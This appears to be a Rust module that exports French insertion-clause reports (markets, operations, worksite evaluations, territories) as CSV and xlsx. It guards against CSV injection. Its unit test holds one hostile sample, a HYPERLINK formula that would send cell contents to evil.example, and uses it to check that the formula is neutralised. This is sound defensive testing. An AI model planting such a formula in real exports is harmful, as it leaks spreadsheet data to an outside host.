//! Reports as files: CSV for French spreadsheets (UTF-8 with BOM, `;`, decimal comma, or as
//! asked) and `.xlsx` workbooks, one sheet per section. Every report becomes a `Document` of
//! tables first, so both formats show the same figures.

use chrono::{Datelike, NaiveDate};
use rust_xlsxwriter::{ExcelDateTime, Format, Workbook};

use super::chantier::ChantierEvaluation;
use super::figures::{ContractLine, ExitFigures, HourFigures, PeopleLine};
use super::market::{MarketLine, MarketReport};
use super::operation::{Commitment, OperationReport};
use super::territory::TerritoryReport;
use crate::domain::report::NumberStyle;
use crate::error::{AppError, AppResult};

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Cell {
    Text(String),
    Int(i64),
    /// Minutes, shown as hours.
    Hours(i64),
    /// Basis points, shown as a percentage.
    Percent(Option<i64>),
    Euros(i64),
    /// A number in hundredths (ETP).
    Hundredths(i64),
    Date(Option<NaiveDate>),
}

fn text(s: impl Into<String>) -> Cell {
    Cell::Text(s.into())
}

pub struct Table {
    /// Sheet name (at most 31 characters).
    pub name: &'static str,
    pub headers: Vec<&'static str>,
    pub rows: Vec<Vec<Cell>>,
}

pub struct Document {
    pub title: String,
    /// Base of the file name, without extension.
    pub file_name: String,
    pub tables: Vec<Table>,
}

/// CSV options: separator and decimal mark.
#[derive(Debug, Clone, Copy)]
pub struct CsvStyle {
    pub separator: u8,
    pub numbers: NumberStyle,
}

impl Default for CsvStyle {
    fn default() -> Self {
        CsvStyle {
            separator: b';',
            numbers: NumberStyle { decimal: ',' },
        }
    }
}

impl CsvStyle {
    /// From the query string's `sep` and `decimal`, refusing what a spreadsheet could not read.
    pub fn parse(sep: Option<&str>, decimal: Option<&str>) -> AppResult<Self> {
        let mut style = CsvStyle::default();
        if let Some(s) = sep {
            style.separator = match s {
                ";" => b';',
                "," => b',',
                "tab" | "\t" => b'\t',
                _ => return Err(AppError::bad_input("sep", "sep : « ; », « , » ou « tab »")),
            };
        }
        if let Some(d) = decimal {
            style.numbers.decimal = match d {
                "," => ',',
                "." => '.',
                _ => return Err(AppError::bad_input("decimal", "decimal : « , » ou « . »")),
            };
        }
        if style.separator == style.numbers.decimal as u8 {
            return Err(AppError::bad_input(
                "decimal",
                "decimal : le séparateur décimal ne peut pas être celui des colonnes (same as the separator)",
            ));
        }
        Ok(style)
    }
}

/// Text a spreadsheet would read as a formula (OWASP, CSV injection) gets a leading `'`, which
/// spreadsheets show as text. Only text cells: figures are `Cell` numbers, so a negative number
/// (`-10,00`) stays a number.
fn inert(s: &str) -> String {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{s}")
    } else {
        s.to_string()
    }
}

fn csv_cell(c: &Cell, n: NumberStyle) -> String {
    match c {
        Cell::Text(s) => inert(s),
        Cell::Int(i) => i.to_string(),
        Cell::Hours(m) => n.hours(*m),
        Cell::Percent(bp) => bp.map(|b| n.percent(b)).unwrap_or_default(),
        Cell::Euros(c) => n.euros(*c),
        Cell::Hundredths(h) => n.fixed(*h, 100, 2),
        Cell::Date(d) => d
            .map(|d| d.format("%d/%m/%Y").to_string())
            .unwrap_or_default(),
    }
}

pub fn csv(doc: &Document, style: CsvStyle) -> AppResult<Vec<u8>> {
    let mut out = "\u{feff}".as_bytes().to_vec();
    {
        let mut w = csv::WriterBuilder::new()
            .delimiter(style.separator)
            .flexible(true)
            .from_writer(&mut out);
        let io = |e: csv::Error| AppError::Internal(format!("csv: {e}"));
        w.write_record([inert(&doc.title)]).map_err(io)?;
        for t in &doc.tables {
            w.write_record([""]).map_err(io)?;
            w.write_record([t.name]).map_err(io)?;
            w.write_record(&t.headers).map_err(io)?;
            for row in &t.rows {
                w.write_record(row.iter().map(|c| csv_cell(c, style.numbers)))
                    .map_err(io)?;
            }
        }
        w.flush()
            .map_err(|e| AppError::Internal(format!("csv: {e}")))?;
    }
    Ok(out)
}

pub fn xlsx(doc: &Document) -> AppResult<Vec<u8>> {
    let err = |e: rust_xlsxwriter::XlsxError| AppError::Internal(format!("xlsx: {e}"));
    let mut book = Workbook::new();
    let bold = Format::new().set_bold();
    let hours = Format::new().set_num_format("0.00");
    let percent = Format::new().set_num_format("0.00%");
    let euros = Format::new().set_num_format("#,##0.00 €");
    let date = Format::new().set_num_format("dd/mm/yyyy");
    for t in &doc.tables {
        let sheet = book.add_worksheet();
        sheet.set_name(t.name).map_err(err)?;
        sheet
            .write_string_with_format(0, 0, &doc.title, &bold)
            .map_err(err)?;
        for (c, h) in t.headers.iter().enumerate() {
            sheet
                .write_string_with_format(2, c as u16, *h, &bold)
                .map_err(err)?;
        }
        for (r, row) in t.rows.iter().enumerate() {
            let r = r as u32 + 3;
            for (c, cell) in row.iter().enumerate() {
                let c = c as u16;
                match cell {
                    Cell::Text(s) => sheet.write_string(r, c, s).map(|_| ()),
                    Cell::Int(i) => sheet.write_number(r, c, *i as f64).map(|_| ()),
                    Cell::Hours(m) => sheet
                        .write_number_with_format(r, c, *m as f64 / 60.0, &hours)
                        .map(|_| ()),
                    Cell::Percent(Some(bp)) => sheet
                        .write_number_with_format(r, c, *bp as f64 / 10_000.0, &percent)
                        .map(|_| ()),
                    Cell::Hundredths(h) => sheet
                        .write_number_with_format(r, c, *h as f64 / 100.0, &hours)
                        .map(|_| ()),
                    Cell::Euros(cents) => sheet
                        .write_number_with_format(r, c, *cents as f64 / 100.0, &euros)
                        .map(|_| ()),
                    Cell::Date(Some(d)) => {
                        let x = ExcelDateTime::from_ymd(
                            d.year() as u16,
                            d.month() as u8,
                            d.day() as u8,
                        )
                        .map_err(err)?;
                        sheet
                            .write_datetime_with_format(r, c, &x, &date)
                            .map(|_| ())
                    }
                    Cell::Percent(None) | Cell::Date(None) => Ok(()),
                }
                .map_err(err)?;
            }
        }
        sheet.autofit();
    }
    book.save_to_buffer().map_err(err)
}

const HOUR_HEADERS: [&str; 4] = [
    "Heures validées",
    "Heures déclarées à valider",
    "Heures rejetées",
    "Heures retenues pour la clause",
];

fn hour_cells(h: &HourFigures) -> Vec<Cell> {
    vec![
        Cell::Hours(h.validated.minutes),
        Cell::Hours(h.pending.minutes),
        Cell::Hours(h.rejected.minutes),
        Cell::Hours(h.counted.minutes),
    ]
}

fn with_hours(mut headers: Vec<&'static str>) -> Vec<&'static str> {
    headers.extend(HOUR_HEADERS);
    headers
}

fn markets_table(lines: &[MarketLine]) -> Table {
    let mut headers = vec![
        "Référence",
        "Intitulé",
        "Acheteur",
        "Clause",
        "Catégorie ANRU",
        "Statut",
        "Début",
        "Fin",
        "Montant HT",
        "Objectif (h)",
    ];
    headers.extend(HOUR_HEADERS);
    headers.extend(["Taux de réalisation", "Prévision à la fin (h)", "Tendance"]);
    Table {
        name: "Marchés",
        headers,
        rows: lines
            .iter()
            .map(|m| {
                let mut row = vec![
                    text(&m.reference),
                    text(&m.title),
                    text(&m.buyer),
                    text(m.clause_kind.as_str()),
                    text(m.anru_category.map_or("", |a| a.as_str())),
                    text(m.status.as_str()),
                    Cell::Date(Some(m.start_date)),
                    Cell::Date(Some(m.end_date)),
                    Cell::Euros(m.amount_cents),
                    m.target_minutes.map_or(text(""), Cell::Hours),
                ];
                row.extend(hour_cells(&m.hours));
                row.push(Cell::Percent(m.completion_bp));
                row.push(
                    m.forecast
                        .map_or(text(""), |f| Cell::Hours(f.minutes_at_end)),
                );
                row.push(text(m.forecast.map_or("", |f| f.pace.as_str())));
                row
            })
            .collect(),
    }
}

fn people_table(lines: &[PeopleLine]) -> Table {
    Table {
        name: "Public",
        headers: vec!["Répartition", "Catégorie", "Femmes", "Hommes", "Total"],
        rows: lines
            .iter()
            .map(|p| {
                vec![
                    text(&p.breakdown),
                    text(&p.label),
                    Cell::Int(p.women),
                    Cell::Int(p.men),
                    Cell::Int(p.total),
                ]
            })
            .collect(),
    }
}

fn contracts_table(lines: &[ContractLine]) -> Table {
    Table {
        name: "Contrats",
        headers: vec!["Type de contrat", "Nombre", "Dont résidents QPV"],
        rows: lines
            .iter()
            .map(|c| {
                vec![
                    text(c.contract_type.as_str()),
                    Cell::Int(c.count),
                    Cell::Int(c.qpv_residents),
                ]
            })
            .collect(),
    }
}

fn exits_table(e: &ExitFigures) -> Table {
    let mut rows: Vec<Vec<Cell>> = e
        .lines
        .iter()
        .map(|l| {
            vec![
                text(l.category.as_str()),
                Cell::Int(l.count),
                Cell::Percent(Some(l.rate_bp)),
            ]
        })
        .collect();
    rows.push(vec![
        text("Total des sorties"),
        Cell::Int(e.total),
        text(""),
    ]);
    rows.push(vec![
        text("Sorties dynamiques"),
        text(""),
        Cell::Percent(e.dynamic_rate_bp),
    ]);
    rows.push(vec![
        text("Objectif de sorties dynamiques"),
        text(""),
        Cell::Percent(Some(e.target_bp)),
    ]);
    rows.push(vec![
        text("Objectif atteint"),
        text(match e.meets_target {
            Some(true) => "oui",
            Some(false) => "non",
            None => "sans sortie",
        }),
        text(""),
    ]);
    rows.push(vec![
        text("Abandons en cours de parcours"),
        Cell::Int(e.abandonments),
        text(""),
    ]);
    Table {
        name: "Sorties",
        headers: vec!["Type de sortie", "Nombre", "Taux"],
        rows,
    }
}

fn commitments_rows(name: &str, list: &[Commitment]) -> Vec<Vec<Cell>> {
    list.iter()
        .map(|c| {
            let mut row = vec![
                text(name),
                text(c.category.as_str()),
                Cell::Percent(Some(i64::from(c.rate_bp))),
            ];
            row.extend([
                Cell::Hours(c.insertion.counted.minutes),
                Cell::Hours(c.worked_minutes),
                Cell::Hours(c.owed_minutes),
                Cell::Percent(c.achieved_bp),
                text(match c.met {
                    Some(true) => "oui",
                    Some(false) => "non",
                    None => "non estimé",
                }),
                Cell::Int(c.markets_without_estimate),
            ]);
            row
        })
        .collect()
}

const COMMITMENT_HEADERS: [&str; 9] = [
    "Opération",
    "Engagement",
    "Taux d'engagement",
    "Heures d'insertion",
    "Heures travaillées (estimées)",
    "Heures dues",
    "Taux atteint",
    "Engagement tenu",
    "Marchés sans estimation",
];

fn summary(rows: Vec<(&'static str, Cell)>) -> Table {
    Table {
        name: "Synthèse",
        headers: vec!["Indicateur", "Valeur"],
        rows: rows.into_iter().map(|(k, v)| vec![text(k), v]).collect(),
    }
}

fn hours_summary(h: &HourFigures) -> Vec<(&'static str, Cell)> {
    HOUR_HEADERS.iter().copied().zip(hour_cells(h)).collect()
}

fn modality_table<T>(
    name: &'static str,
    first: &'static str,
    lines: &[T],
    label: impl Fn(&T) -> (&'static str, &HourFigures),
) -> Table {
    Table {
        name,
        headers: with_hours(vec![first]),
        rows: lines
            .iter()
            .map(|l| {
                let (k, h) = label(l);
                let mut row = vec![text(k)];
                row.extend(hour_cells(h));
                row
            })
            .collect(),
    }
}

fn slug(s: &str) -> String {
    crate::domain::text::search_key(&[s])
        .chars()
        .map(|c| if c.is_ascii_alphanumeric() { c } else { '-' })
        .collect::<String>()
        .split('-')
        .filter(|p| !p.is_empty())
        .collect::<Vec<_>>()
        .join("-")
}

pub fn market(r: &MarketReport) -> Document {
    let m = &r.market;
    let mut head = vec![
        ("Date de situation", Cell::Date(Some(r.as_at))),
        ("Période du", Cell::Date(r.from)),
        ("Période au", Cell::Date(r.to)),
        (
            "Objectif (h)",
            m.target_minutes.map_or(text(""), Cell::Hours),
        ),
    ];
    head.extend(hours_summary(&m.hours));
    head.extend([
        ("Taux de réalisation", Cell::Percent(m.completion_bp)),
        (
            "Prévision à la fin (h)",
            m.forecast
                .map_or(text(""), |f| Cell::Hours(f.minutes_at_end)),
        ),
        ("Tendance", text(m.forecast.map_or("", |f| f.pace.as_str()))),
        ("ETP (heures retenues)", Cell::Hundredths(r.etp.hundredths)),
        ("Heures d'un ETP", Cell::Hours(r.etp.divisor_minutes)),
    ]);
    let lots = Table {
        name: "Lots",
        headers: with_hours(vec!["Lot", "Intitulé", "Titulaire", "Objectif (h)"])
            .into_iter()
            .chain(["Taux de réalisation"])
            .collect(),
        rows: r
            .lots
            .iter()
            .map(|l| {
                let mut row = vec![
                    Cell::Int(i64::from(l.number)),
                    text(&l.title),
                    text(l.awardee.clone().unwrap_or_default()),
                    l.target_minutes.map_or(text(""), Cell::Hours),
                ];
                row.extend(hour_cells(&l.hours));
                row.push(Cell::Percent(l.completion_bp));
                row
            })
            .collect(),
    };
    Document {
        title: format!(
            "Marché {} — {} — situation au {}",
            m.reference,
            m.title,
            r.as_at.format("%d/%m/%Y")
        ),
        file_name: format!("marche-{}-{}", slug(&m.reference), r.as_at),
        tables: vec![
            summary(head),
            markets_table(std::slice::from_ref(m)),
            lots,
            modality_table("Modalités", "Modalité", &r.by_modality, |l| {
                (l.modality.as_str(), &l.hours)
            }),
            modality_table("Nature des heures", "Nature", &r.by_kind, |l| {
                (l.kind.as_str(), &l.hours)
            }),
            people_table(&r.people),
            contracts_table(&r.contracts),
        ],
    }
}

pub fn operation(r: &OperationReport) -> Document {
    let mut head = vec![
        ("Date de situation", Cell::Date(Some(r.as_at))),
        ("Période du", Cell::Date(r.from)),
        ("Période au", Cell::Date(r.to)),
    ];
    head.extend(hours_summary(&r.hours));
    head.extend([
        ("Embauches (contrats)", Cell::Int(r.hires)),
        ("Dont résidents QPV", Cell::Int(r.qpv_hires)),
        ("ETP (heures retenues)", Cell::Hundredths(r.etp.hundredths)),
        ("Heures d'un ETP", Cell::Hours(r.etp.divisor_minutes)),
    ]);
    Document {
        title: format!(
            "Opération {} — situation au {}",
            r.name,
            r.as_at.format("%d/%m/%Y")
        ),
        file_name: format!("operation-{}-{}", slug(&r.name), r.as_at),
        tables: vec![
            summary(head),
            Table {
                name: "Engagements ANRU",
                headers: COMMITMENT_HEADERS.to_vec(),
                rows: commitments_rows(&r.name, &r.commitments),
            },
            markets_table(&r.markets),
            modality_table("Modalités", "Modalité", &r.by_modality, |l| {
                (l.modality.as_str(), &l.hours)
            }),
            people_table(&r.people),
            contracts_table(&r.contracts),
            exits_table(&r.exits),
        ],
    }
}

pub fn chantier(r: &ChantierEvaluation) -> Document {
    let opt = |s: &Option<String>| text(s.clone().unwrap_or_default());
    let mut head = vec![
        ("Intitulé", text(&r.title)),
        ("Localisation", text(&r.place)),
        ("Date de début", Cell::Date(Some(r.start_date))),
        ("Date de fin", Cell::Date(Some(r.end_date))),
        ("Ingénierie et coordination", opt(&r.coordination)),
        ("Porteur du chantier", text(&r.carrier)),
        ("Maître d'ouvrage", text(&r.owner)),
        ("Effectif total", Cell::Int(r.headcount)),
        (
            "Nature des activités, travaux-supports",
            text(&r.activities),
        ),
        ("Objectifs de l'action", opt(&r.objectives)),
        (
            "Heures de travail hebdomadaire (moyenne)",
            r.weekly_minutes_average.map_or(text(""), Cell::Hours),
        ),
        (
            "Heures de formation totales",
            Cell::Hours(r.training.minutes),
        ),
        (
            "Partenaires socio-professionnels et institutionnels",
            text(r.partners.join(", ")),
        ),
        ("Partenaires économiques", opt(&r.economic_partners)),
        ("Coût total", Cell::Euros(r.total_cost_cents)),
        (
            "Coût par personne",
            r.cost_per_person_cents.map_or(text(""), Cell::Euros),
        ),
        (
            "Taux global de sorties dynamiques",
            Cell::Percent(r.exits.dynamic_rate_bp),
        ),
        (
            "Autres renseignements (qualitatif)",
            opt(&r.qualitative_notes),
        ),
        ("Date de situation", Cell::Date(Some(r.as_at))),
    ];
    head.extend(hours_summary(&r.hours));
    Document {
        title: format!(
            "Fiche évaluation ACI — {} — au {}",
            r.title,
            r.as_at.format("%d/%m/%Y")
        ),
        file_name: format!("evaluation-{}-{}", slug(&r.title), r.as_at),
        tables: vec![
            summary(head),
            people_table(&r.people),
            contracts_table(&r.contracts),
            Table {
                name: "Encadrement",
                headers: vec!["Type d'encadrement", "Nombre d'heures", "Structure"],
                rows: r
                    .supervision
                    .iter()
                    .map(|s| vec![text(&s.kind), Cell::Hours(s.minutes), text(&s.structure)])
                    .collect(),
            },
            Table {
                name: "Financement",
                headers: vec![
                    "Financeur",
                    "Catégorie",
                    "Poste financé",
                    "Année",
                    "Montant",
                ],
                rows: r
                    .funding
                    .iter()
                    .map(|f| {
                        vec![
                            text(&f.funder),
                            text(f.funder_category.as_str()),
                            text(f.purpose.as_str()),
                            Cell::Int(i64::from(f.year)),
                            Cell::Euros(f.amount_cents),
                        ]
                    })
                    .chain([vec![
                        text("Total"),
                        text(""),
                        text(""),
                        text(""),
                        Cell::Euros(r.funding_total_cents),
                    ]])
                    .collect(),
            },
            exits_table(&r.exits),
        ],
    }
}

pub fn territory(r: &TerritoryReport) -> Document {
    let mut head = vec![
        ("Territoire", text(&r.name)),
        ("Date de situation", Cell::Date(Some(r.as_at))),
        ("Période du", Cell::Date(r.from)),
        ("Période au", Cell::Date(r.to)),
        ("Marchés suivis", Cell::Int(r.markets.len() as i64)),
    ];
    head.extend(hours_summary(&r.hours));
    head.extend([
        ("Dont résidents QPV (contrats)", Cell::Int(r.qpv_hires)),
        ("ETP (heures retenues)", Cell::Hundredths(r.etp.hundredths)),
        ("Heures d'un ETP", Cell::Hours(r.etp.divisor_minutes)),
    ]);
    let commitments = r
        .operations
        .iter()
        .flat_map(|o| commitments_rows(&o.name, &o.commitments))
        .collect();
    let chantiers = Table {
        name: "Chantiers",
        headers: with_hours(vec!["Chantier", "Statut"])
            .into_iter()
            .chain(["Sorties", "Taux de sorties dynamiques", "Objectif"])
            .collect(),
        rows: r
            .chantiers
            .iter()
            .map(|c| {
                let mut row = vec![text(&c.title), text(c.status.as_str())];
                row.extend(hour_cells(&c.hours));
                row.extend([
                    Cell::Int(c.exits.total),
                    Cell::Percent(c.exits.dynamic_rate_bp),
                    Cell::Percent(Some(c.exits.target_bp)),
                ]);
                row
            })
            .collect(),
    };
    Document {
        title: format!(
            "Rapport d'activité — {} — au {}",
            r.name,
            r.as_at.format("%d/%m/%Y")
        ),
        file_name: format!("rapport-{}-{}", slug(&r.name), r.as_at),
        tables: vec![
            summary(head),
            markets_table(&r.markets),
            Table {
                name: "Engagements ANRU",
                headers: COMMITMENT_HEADERS.to_vec(),
                rows: commitments,
            },
            chantiers,
            modality_table("Modalités", "Modalité", &r.by_modality, |l| {
                (l.modality.as_str(), &l.hours)
            }),
            people_table(&r.people),
            contracts_table(&r.contracts),
            exits_table(&r.exits),
        ],
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one_row(row: Vec<Cell>) -> Vec<String> {
        let doc = Document {
            title: "Essai".into(),
            file_name: "essai".into(),
            tables: vec![Table {
                name: "T",
                headers: vec!["a"; row.len()],
                rows: vec![row],
            }],
        };
        let bytes = csv(&doc, CsvStyle::default()).unwrap();
        let mut r = csv::ReaderBuilder::new()
            .delimiter(b';')
            .flexible(true)
            .has_headers(false)
            .from_reader(&bytes[3..]);
        let records: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
        records.last().unwrap().iter().map(String::from).collect()
    }

    #[test]
    fn formula_text_is_neutralised_and_negative_numbers_stay_numbers() {
        let cells = one_row(vec![
            text("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")"),
            text("-1+2"),
            text("+33 6"),
            text("@SUM(A1)"),
            text("\tx"),
            text("\rx"),
            text("Lot = 1"),
            Cell::Hours(-600),
            Cell::Euros(-1234),
            Cell::Int(-3),
        ]);
        assert_eq!(
            cells,
            [
                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")",
                "'-1+2",
                "'+33 6",
                "'@SUM(A1)",
                "'\tx",
                "'\rx",
                "Lot = 1",
                "-10,00",
                "-12,34",
                "-3",
            ]
        );
        // The figures read back as numbers (decimal comma).
        for n in &cells[7..] {
            assert!(n.replace(',', ".").parse::<f64>().unwrap() < 0.0, "{n}");
        }
    }
}
